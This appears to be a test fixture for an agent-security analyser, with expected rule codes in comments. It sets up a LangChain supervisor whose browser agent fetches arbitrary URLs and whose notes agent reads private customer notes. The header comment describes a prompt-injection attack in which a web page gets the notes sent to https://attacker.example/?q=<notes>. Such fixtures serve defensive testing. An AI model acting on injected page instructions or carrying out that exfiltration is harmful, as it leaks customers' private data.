# case: An account-management team under one supervisor: the browser agent fetches any URL the model names (untrusted pages in, and a way out: the URL itself), the notes agent reads private customer notes. Neither agent holds all three legs, but they share one conversation through the supervisor: a page can ask for the notes and have the browser "fetch" https://attacker.example/?q=<notes>.
from pathlib import Path

import requests
from langchain.agents import create_agent
from langchain.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph_supervisor import create_supervisor

NOTES = Path("/srv/crm/notes")


@tool
def fetch_page(url: str) -> str:
    """Fetch a web page and return its text."""
    return requests.get(url, timeout=10).text  # path: AIR103  # expect: AIR106


@tool
def read_notes(customer_id: str) -> str:  # path: AIR103
    """Return the account manager's private notes about a customer."""
    return (NOTES / f"{customer_id}.md").read_text()  # expect: AIR106


# expect: AIR103
browser = create_agent("openai:gpt-4.1", tools=[fetch_page], name="browser")
notes = create_agent("openai:gpt-4.1", tools=[read_notes], name="notes")

# path: AIR103
team = create_supervisor([browser, notes], model="openai:gpt-4.1").compile(checkpointer=InMemorySaver())
